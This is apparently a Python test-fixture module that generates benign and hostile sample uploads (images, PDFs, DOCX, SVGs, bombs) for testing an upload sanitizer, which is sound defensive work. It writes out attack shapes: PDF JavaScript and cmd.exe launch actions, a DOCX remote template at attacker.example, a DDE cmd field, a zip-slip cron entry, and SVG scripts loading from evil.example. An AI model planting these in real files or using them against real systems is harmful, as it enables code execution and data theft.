"""Sample uploads built at test time, so no binary file is checked in: real pictures and
documents made with Pillow, pypdf and zipfile, and hostile ones written by hand.

Every builder writes the file at `path` and returns `path`, so a test reads
`detect(samples.png(tmp_path / "logo.png"))`. The service's end-to-end tests use them too.
"""

from __future__ import annotations

import base64
import gzip
import io
import struct
import zipfile
import zlib
from collections.abc import Iterable
from pathlib import Path

from PIL import Image, ImageCms, ImageDraw
from PIL.PngImagePlugin import PngInfo
from PIL.TiffImagePlugin import IFDRational
from pypdf import PdfReader, PdfWriter

# Pictures

GPS_IFD = 0x8825
ORIENTATION = 0x0112
# A point in Berlin: what must never reach a stored profile picture.
GPS_POSITION = {1: "N", 2: (IFDRational(52), IFDRational(31), IFDRational(12)),
                3: "E", 4: (IFDRational(13), IFDRational(24), IFDRational(36))}


def exif_with_gps(orientation: int | None = None) -> Image.Exif:
    """EXIF as a phone writes it: camera, GPS position, and optionally an orientation."""
    exif = Image.Exif()
    exif[0x010F] = "SampleCam"  # Make
    exif[0x0110] = "SampleCam 12"  # Model
    if orientation is not None:
        exif[ORIENTATION] = orientation
    exif.get_ifd(GPS_IFD).update(GPS_POSITION)
    return exif


def picture(size: tuple[int, int], *, transparent: bool = False) -> Image.Image:
    """A picture with something to crop: a gradient, a dark square in the top-left corner
    (to see orientation and crops) and, if asked, a transparent band on the right."""
    width, height = size
    gradient = Image.linear_gradient("L").resize(size)
    image = Image.merge("RGB", (gradient, gradient.transpose(Image.Transpose.ROTATE_90)
                                .resize(size), Image.new("L", size, 160)))
    ImageDraw.Draw(image).rectangle((0, 0, width // 4, height // 4), fill=(20, 20, 20))
    if transparent:
        image = image.convert("RGBA")
        ImageDraw.Draw(image).rectangle((width * 3 // 4, 0, width, height), fill=(0, 0, 0, 0))
    return image


def jpeg(path: Path, size: tuple[int, int] = (800, 600), *, gps: bool = False,
         orientation: int | None = None, icc_profile: bool = False) -> Path:
    """A JPEG; with `gps`, EXIF with a GPS position, a comment and XMP, as phones write."""
    options: dict[str, object] = {"quality": 90}
    if gps or orientation is not None:
        options["exif"] = exif_with_gps(orientation)
    if gps:
        options |= {"comment": b"taken at home", "xmp": b"<x:xmpmeta>Jane's phone</x:xmpmeta>"}
    if icc_profile:
        options["icc_profile"] = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    picture(size).save(path, "JPEG", **options)
    return path


def jpeg_with_gps(path: Path, size: tuple[int, int] = (800, 600), *,
                  orientation: int | None = None) -> Path:
    """A phone photo: EXIF with a GPS IFD (0x8825), a comment and XMP."""
    return jpeg(path, size, gps=True, orientation=orientation)


def large_jpeg(path: Path, size: tuple[int, int] = (4000, 3000)) -> Path:
    """A 12-megapixel photo with GPS EXIF and some grain (flat colour would encode unusually
    fast), about the size a phone uploads."""
    image = picture(size)
    grain = Image.effect_noise(size, 24).convert("RGB")
    Image.blend(image, grain, 0.15).save(path, "JPEG", quality=88, exif=exif_with_gps())
    return path


def png(path: Path, size: tuple[int, int] = (640, 480), *, transparent: bool = False) -> Path:
    """A PNG with a text chunk and EXIF with GPS (PNG carries both)."""
    info = PngInfo()
    info.add_text("Author", "Jane Doe")
    picture(size, transparent=transparent).save(path, "PNG", pnginfo=info,
                                                exif=exif_with_gps())
    return path


def webp(path: Path, size: tuple[int, int] = (640, 480)) -> Path:
    """A WebP with EXIF and GPS."""
    picture(size).save(path, "WEBP", quality=90, exif=exif_with_gps())
    return path


def gif(path: Path, size: tuple[int, int] = (320, 240)) -> Path:
    """A still GIF with a comment."""
    picture(size).save(path, "GIF", comment=b"made by Jane")
    return path


def animated_gif(path: Path, size: tuple[int, int] = (320, 240), frames: int = 6, *,
                 duration: int = 80, loop: int = 0) -> Path:
    """An animated GIF: a square moving across, `frames` frames of `duration` ms each."""
    width, height = size
    images = []
    for index in range(frames):
        frame = picture(size)
        left = index * (width - width // 5) // max(frames - 1, 1)
        ImageDraw.Draw(frame).rectangle((left, height // 2, left + width // 5, height - 1),
                                        fill=(220, 40, 40))
        # Octree: Pillow's default median cut takes seconds for a few large frames.
        images.append(frame.quantize(method=Image.Quantize.FASTOCTREE))
    images[0].save(path, "GIF", save_all=True, append_images=images[1:], duration=duration,
                   loop=loop, comment=b"made by Jane")
    return path


def transparent_animated_gif(path: Path, size: tuple[int, int] = (400, 300),
                             frames: int = 4) -> Path:
    """A red disc moving over a transparent background, each frame restoring to it."""
    width, height = size
    images = []
    for index in range(frames):
        frame = Image.new("RGBA", size, (0, 0, 0, 0))
        left = index * width // (frames + 1)
        ImageDraw.Draw(frame).ellipse((left, height // 4, left + width // 4, height * 3 // 4),
                                      fill=(220, 40, 40, 255))
        images.append(frame)
    images[0].save(path, "GIF", save_all=True, append_images=images[1:], duration=100, loop=0,
                   disposal=2)
    return path


def gif_frame_bomb(path: Path, size: tuple[int, int] = (1000, 1000), frames: int = 70) -> Path:
    """An animated GIF whose frames x pixels (70 million) exceed the decoding limit while the
    file stays tiny: solid palette frames compress to almost nothing."""
    palette = [value for index in range(256) for value in (index, 255 - index, 128)]
    images = []
    for index in range(frames):
        frame = Image.new("P", size, index % 2)
        frame.putpalette(palette)
        images.append(frame)
    images[0].save(path, "GIF", save_all=True, append_images=images[1:], duration=50)
    return path


def pixel_bomb_png(path: Path, size: tuple[int, int] = (10_000, 10_000)) -> Path:
    """A PNG whose header claims `size` (100 megapixels by default) over almost no data: a
    decoder that trusted it would allocate it all."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + \
            struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", size[0], size[1], 8, 2, 0, 0, 0)
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) +
                     chunk(b"IDAT", zlib.compress(b"\x00" * 64)) + chunk(b"IEND", b""))
    return path


def truncated_jpeg(path: Path) -> Path:
    """A JPEG cut in the middle of its image data, as an interrupted upload leaves it."""
    data = jpeg(path, (800, 600)).read_bytes()
    path.write_bytes(data[: len(data) // 2])
    return path


# PDFs

A4 = (595, 842)


def pdf(path: Path, pages: int = 1, *, title: str | None = "Jane Doe - CV",
        catalog: str = "", extra_objects: Iterable[str] = ()) -> Path:
    """A PDF written by hand: `pages` A4 pages with a line of Helvetica text each, an Info
    title, and whatever `catalog` entries and `extra_objects` (numbered from 100) say."""
    objects = {
        1: f"<< /Type /Catalog /Pages 2 0 R {catalog} >>",
        2: "<< /Type /Pages /Kids [{}] /Count {} >>".format(
            " ".join(f"{10 + 2 * page} 0 R" for page in range(pages)), pages),
        3: "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        4: f"<< /Title ({title}) /Producer (samples) >>" if title else "<< >>",
    }
    for page in range(pages):
        content = f"BT /F1 28 Tf 72 760 Td (Jane Doe, page {page + 1}) Tj ET"
        objects[10 + 2 * page] = (f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 {A4[0]} {A4[1]}]"
                                  f" /Contents {11 + 2 * page} 0 R"
                                  " /Resources << /Font << /F1 3 0 R >> >> >>")
        objects[11 + 2 * page] = f"<< /Length {len(content)} >>\nstream\n{content}\nendstream"
    for number, body in enumerate(extra_objects, start=100):
        objects[number] = body
    path.write_bytes(_pdf_file(objects, root=1, info=4))
    return path


def _pdf_file(objects: dict[int, str], *, root: int, info: int) -> bytes:
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += f"{number} 0 obj\n{objects[number]}\nendobj\n".encode("latin-1")
    size = max(objects) + 1
    xref = len(out)
    out += f"xref\n0 {size}\n0000000000 65535 f \n".encode()
    for number in range(1, size):
        out += (f"{offsets[number]:010d} 00000 n \n" if number in offsets
                else "0000000000 00000 f \n").encode()
    out += (f"trailer\n<< /Size {size} /Root {root} 0 R /Info {info} 0 R >>\n"
            f"startxref\n{xref}\n%%EOF\n").encode()
    return bytes(out)


def pdf_with_javascript(path: Path) -> Path:
    """A PDF that runs JavaScript when opened (/OpenAction), with the action's names
    written in #-escapes as malware does to dodge naive scanners."""
    return pdf(path, catalog="/OpenAction 100 0 R",
               extra_objects=["<< /Type /Action /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"])


def pdf_with_document_javascript(path: Path) -> Path:
    """A PDF with a document-level script in its /Names /JavaScript tree."""
    return pdf(path, catalog="/Names << /JavaScript 100 0 R >>",
               extra_objects=["<< /Names [(init) 101 0 R] >>",
                              "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"])


def pdf_with_launch_action(path: Path) -> Path:
    """A PDF that asks the reader to start a program when opened."""
    return pdf(path, catalog="/OpenAction << /S /Launch /Win << /F (cmd.exe) >> >>")


def pdf_with_embedded_file(path: Path) -> Path:
    """A PDF with an attachment in its /EmbeddedFiles tree (made by pypdf)."""
    writer = PdfWriter(clone_from=pdf(path))
    writer.add_attachment("invoice.exe", b"MZ not really")
    writer.write(path)
    return path


def pdf_with_goto_open_action(path: Path) -> Path:
    """A PDF that opens on its first page: an /OpenAction that runs nothing."""
    return pdf(path, catalog="/OpenAction [10 0 R /Fit]")


def encrypted_pdf(path: Path, user_password: str = "secret") -> Path:
    """A PDF encrypted with AES-256: with a user password it needs one to open; with an
    empty one it opens anywhere and only restricts (printing, copying)."""
    writer = PdfWriter(clone_from=PdfReader(pdf(path)))
    writer.encrypt(user_password=user_password, owner_password="owner", algorithm="AES-256")
    writer.write(path)
    return path


def pdf_without_pages(path: Path) -> Path:
    """A PDF whose page tree is empty."""
    objects = {1: "<< /Type /Catalog /Pages 2 0 R >>", 2: "<< /Type /Pages /Kids [] /Count 0 >>",
               3: "<< >>"}
    path.write_bytes(_pdf_file(objects, root=1, info=3))
    return path


# DOCX

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
CV_PARAGRAPHS = (
    "Jane Doe",
    "Senior Backend Engineer - Berlin - jane@example.com",
    "",
    "Experience",
    "2019-2025 Staff Engineer at Example GmbH: payments platform, Python, PostgreSQL, and a "
    "team of six; led the move from a monolith to services without a day of downtime.",
    "2015-2019 Engineer at Sample AG.",
    "Education",
    "MSc Computer Science, TU Berlin",
)


def docx(path: Path, paragraphs: Iterable[str] = CV_PARAGRAPHS, *,
         title: str | None = "Jane Doe - CV", main_type: str = DOCX_MAIN,
         relationships: Iterable[tuple[str, str, bool]] = (),
         parts: dict[str, bytes] | None = None, body: str | None = None) -> Path:
    """A minimal real DOCX: content types, package and document relationships, the document
    (one paragraph per entry of `paragraphs`, or the raw `body` XML) and core properties.
    `relationships` adds (type, target, external) to the document's; `parts` adds parts."""
    body = body if body is not None else "".join(
        f'<w:p><w:r><w:t xml:space="preserve">{_xml_text(text)}</w:t></w:r></w:p>'
        for text in paragraphs)
    rels = "".join(
        f'<Relationship Id="rId{index}" Type="{kind}" Target="{_xml_text(target)}"'
        + (' TargetMode="External"' if external else "") + "/>"
        for index, (kind, target, external) in enumerate(relationships, start=10))
    members = {
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" '
            'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Default Extension="png" ContentType="image/png"/>'
            '<Default Extension="jpeg" ContentType="image/jpeg"/>'
            f'<Override PartName="/word/document.xml" ContentType="{main_type}"/>'
            '<Override PartName="/docProps/core.xml" '
            'ContentType="application/vnd.openxmlformats-package.core-properties+xml"/>'
            "</Types>"),
        "_rels/.rels": _relationships([
            (f"{R}/officeDocument", "word/document.xml", False),
            ("http://schemas.openxmlformats.org/package/2006/relationships/metadata/"
             "core-properties", "docProps/core.xml", False)]),
        "word/document.xml": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            f'<w:document xmlns:w="{W}" xmlns:r="{R}"><w:body>{body}</w:body></w:document>'),
        "word/_rels/document.xml.rels": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f"{rels}</Relationships>"),
        "docProps/core.xml": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/'
            'metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/">'
            + (f"<dc:title>{_xml_text(title)}</dc:title>" if title else "")
            + "<dc:creator>Jane Doe</dc:creator></cp:coreProperties>"),
    }
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in members.items():
            archive.writestr(name, text)
        for name, data in (parts or {}).items():
            archive.writestr(name, data)
    return path


def _relationships(entries: list[tuple[str, str, bool]]) -> str:
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            + "".join(f'<Relationship Id="rId{index}" Type="{kind}" Target="{target}"'
                      + (' TargetMode="External"' if external else "") + "/>"
                      for index, (kind, target, external) in enumerate(entries, start=1))
            + "</Relationships>")


def _xml_text(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")


def docx_with_macros(path: Path) -> Path:
    """A macro-enabled document (.docm) saved under a .docx name: vbaProject.bin and the
    macroEnabled main content type."""
    return docx(path, main_type=DOCM_MAIN,
                relationships=[("http://schemas.microsoft.com/office/2006/relationships/"
                                "vbaProject", "vbaProject.bin", False)],
                parts={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 not VBA"})


def docx_with_external_template(path: Path,
                                target: str = "http://attacker.example/template.dotm") -> Path:
    """The remote-template attack: settings.xml names an attachedTemplate that Word fetches
    (and runs the macros of) when the document opens."""
    return docx(path, parts={
        "word/settings.xml": (f'<w:settings xmlns:w="{W}" xmlns:r="{R}">'
                              '<w:attachedTemplate r:id="rId1"/></w:settings>').encode(),
        "word/_rels/settings.xml.rels": _relationships(
            [(f"{R}/attachedTemplate", target, True)]).encode(),
    })


def docx_with_hyperlink(path: Path, target: str = "https://www.linkedin.com/in/jane-doe") -> Path:
    """A CV linking to a profile: an external hyperlink relationship, used by the text."""
    body = ('<w:p><w:r><w:t>Jane Doe</w:t></w:r></w:p>'
            '<w:p><w:hyperlink r:id="rId10"><w:r><w:t>LinkedIn</w:t></w:r></w:hyperlink></w:p>')
    return docx(path, body=body, relationships=[(f"{R}/hyperlink", target, True)])


def docx_with_external_image(path: Path) -> Path:
    """A picture linked rather than embedded: Word fetches it on opening (a tracking pixel)."""
    return docx(path, relationships=[(f"{R}/image", "https://tracker.example/p.png", True)])


def docx_with_dde_field(path: Path) -> Path:
    """The DDE attack: a field whose code, split over runs as Word writes it, starts cmd."""
    body = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            '<w:r><w:instrText xml:space="preserve"> DDE</w:instrText></w:r>'
            '<w:r><w:instrText xml:space="preserve">AUTO c:\\\\windows\\\\system32\\\\cmd.exe '
            '"/k calc.exe"</w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
    return docx(path, body=body)


def docx_with_thumbnail(path: Path, size: tuple[int, int] = (150, 212)) -> Path:
    """A DOCX with the thumbnail Word saves when asked to (docProps/thumbnail.jpeg), with
    GPS EXIF in it."""
    buffer = io.BytesIO()
    picture(size).save(buffer, "JPEG", exif=exif_with_gps())
    return docx(path, parts={"docProps/thumbnail.jpeg": buffer.getvalue()})


def docx_with_dtd(path: Path) -> Path:
    """A document part declaring entities: the billion-laughs shape inside a DOCX."""
    body = '<w:p><w:r><w:t>&lol;</w:t></w:r></w:p>'
    path = docx(path, body=body)
    with zipfile.ZipFile(path) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    members["word/document.xml"] = members["word/document.xml"].replace(
        b"<w:document", b'<!DOCTYPE w:document [<!ENTITY lol "lol">]><w:document', 1)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return path


def zip_bomb_docx(path: Path, megabytes: int = 20) -> Path:
    """A DOCX with a part of `megabytes` MB of zeros, inflating about 1000 times."""
    return docx(path, parts={"word/media/image1.png": bytes(megabytes * 1024 * 1024)})


def docx_inflating_past_limit(path: Path, parts: int = 101) -> Path:
    """A DOCX whose parts, each 1 MB of zeros (small enough for the ratio check to let
    pass), add up to more than the total limit."""
    zeros = bytes(1024 * 1024)
    return docx(path, parts={f"word/media/filler{index}.bin": zeros for index in range(parts)})


def docx_with_many_parts(path: Path, parts: int = 2001) -> Path:
    """A DOCX with more parts than any document has."""
    return docx(path, parts={f"customXml/item{index}.xml": b"<a/>" for index in range(parts)})


def docx_with_path_traversal(path: Path) -> Path:
    """A DOCX with a part named to be unpacked outside its folder (zip slip)."""
    return docx(path, parts={"../../etc/cron.d/evil": b"* * * * * root sh"})


def zip_archive(path: Path) -> Path:
    """A plain zip of two text files."""
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("readme.txt", "hello")
        archive.writestr("notes/cv.txt", "Jane Doe")
    return path


# SVGs

LOGO_BODY = ('<title>Example GmbH</title>'
             '<defs><linearGradient id="g"><stop offset="0" stop-color="#036"/>'
             '<stop offset="1" stop-color="#09c"/></linearGradient></defs>'
             '<rect width="200" height="80" rx="8" fill="url(#g)"/>'
             '<circle cx="40" cy="40" r="24" fill="#fff"/>'
             '<text x="80" y="50" font-family="sans-serif" font-size="24" fill="#fff">'
             'Example</text>')


def svg(path: Path, body: str = LOGO_BODY, *, prologue: str = "",
        attributes: str = 'width="200" height="80" viewBox="0 0 200 80"') -> Path:
    """An SVG logo: `prologue` (XML declaration, comments, DOCTYPE) before the root, `body`
    inside it."""
    path.write_text(f'{prologue}<svg xmlns="http://www.w3.org/2000/svg" '
                    f'xmlns:xlink="http://www.w3.org/1999/xlink" {attributes}>{body}</svg>',
                    encoding="utf-8")
    return path


def svg_with_script(path: Path) -> Path:
    """A logo that runs a script when opened directly, in two spellings."""
    return svg(path, LOGO_BODY + '<script>alert(document.cookie)</script>'
                                 '<script xlink:href="https://evil.example/x.js"/>')


def svg_with_event_handlers(path: Path) -> Path:
    """A logo whose elements run handlers: onload on the root, onclick and onmouseover."""
    path = svg(path, LOGO_BODY.replace("<circle ", '<circle onclick="alert(1)" '
                                                   'onmouseover="alert(2)" '))
    text = path.read_text().replace("<svg ", '<svg onload="alert(document.domain)" ', 1)
    path.write_text(text)
    return path


def svg_with_external_references(path: Path) -> Path:
    """A logo reaching outside: a use of a remote file, a remote picture, a javascript:
    link, an animation that sets an href, CSS that imports and fetches."""
    return svg(path, LOGO_BODY
               + '<use href="https://evil.example/sprite.svg#logo"/>'
               + '<image xlink:href="https://tracker.example/pixel.png" width="1" height="1"/>'
               + '<a href="javascript:alert(1)"><rect id="link" width="10" height="10"/></a>'
               + '<a xlink:href="#link"><set attributeName="href" to="javascript:alert(1)"/>'
               '</a>'
               + '<style>@import url(https://evil.example/a.css);</style>'
               + '<rect width="5" height="5" style="fill:url(https://tracker.example/f.svg#x)"/>'
               + '<rect width="5" height="5" fill="url(https://tracker.example/g.svg#y)"/>')


def svg_with_foreign_object(path: Path) -> Path:
    """A logo embedding HTML (an iframe and a script) through foreignObject."""
    return svg(path, LOGO_BODY
               + '<foreignObject width="100" height="100"><body xmlns="http://www.w3.org/1999/'
               'xhtml"><iframe src="https://evil.example/"/><script>alert(1)</script></body>'
               '</foreignObject>'
               + '<embed src="https://evil.example/x.swf"/>')


def svg_billion_laughs(path: Path) -> Path:
    """The entity expansion bomb: ten entities of ten of ... of "lol"."""
    entities = '<!ENTITY lol0 "lol">' + "".join(
        f'<!ENTITY lol{level} "{f"&lol{level - 1};" * 10}">' for level in range(1, 10))
    path.write_text(f'<?xml version="1.0"?><!DOCTYPE svg [{entities}]>'
                    '<svg xmlns="http://www.w3.org/2000/svg"><text>&lol9;</text></svg>')
    return path


def svg_use_blowup(path: Path, levels: int = 8) -> Path:
    """The same bomb for renderers: each group uses the one before it ten times."""
    groups = ['<g id="l0"><rect width="1" height="1"/></g>'] + [
        f'<g id="l{level}">' + f'<use href="#l{level - 1}"/>' * 10 + "</g>"
        for level in range(1, levels)]
    return svg(path, "<defs>" + "".join(groups) + f'</defs><use href="#l{levels - 1}"/>')


def svg_without_drawing(path: Path) -> Path:
    """An SVG whose only content is a script and foreign HTML: nothing is left once they go."""
    return svg(path, '<script>alert(1)</script><foreignObject><div xmlns="http://www.w3.org/'
                     '1999/xhtml">hi</div></foreignObject>')


def svg_with_embedded_jpeg(path: Path) -> Path:
    """A logo holding a JPEG (with GPS EXIF) as a data: URI."""
    buffer = io.BytesIO()
    picture((40, 30)).save(buffer, "JPEG", exif=exif_with_gps())
    data = base64.b64encode(buffer.getvalue()).decode()
    return svg(path, LOGO_BODY + f'<image width="40" height="30" '
                                 f'href="data:image/jpeg;base64,{data}"/>')


# Other content the buckets refuse, by its signature


def exe(path: Path) -> Path:
    """The start of a Windows executable: the MZ stub pointing at a PE header."""
    head = bytearray(b"MZ" + bytes(0x3A) + (0x80).to_bytes(4, "little") + bytes(0x40))
    path.write_bytes(bytes(head) + b"PE\0\0" + bytes(64))
    return path


def elf(path: Path) -> Path:
    path.write_bytes(b"\x7fELF\x02\x01\x01" + bytes(57))
    return path


def html(path: Path) -> Path:
    path.write_text("<!DOCTYPE html>\n<html><head><title>cv</title></head>"
                    "<body><script>alert(1)</script></body></html>")
    return path


def text(path: Path) -> Path:
    path.write_text("Jane Doe\nSenior Backend Engineer\nBerlin - jane@example.com\n")
    return path


def gzip_file(path: Path) -> Path:
    path.write_bytes(gzip.compress(b"Jane Doe"))
    return path


def iso_media(path: Path, brand: bytes = b"isom") -> Path:
    """The start of an ISO base media file (MP4, MOV, HEIC...): an ftyp box with `brand`."""
    path.write_bytes((24).to_bytes(4, "big") + b"ftyp" + brand + bytes(4) + brand + b"mp41"
                     + (8).to_bytes(4, "big") + b"mdat")
    return path


def avi(path: Path) -> Path:
    """The start of an AVI: a RIFF container of form AVI."""
    path.write_bytes(b"RIFF" + (4).to_bytes(4, "little") + b"AVI LIST" + bytes(16))
    return path
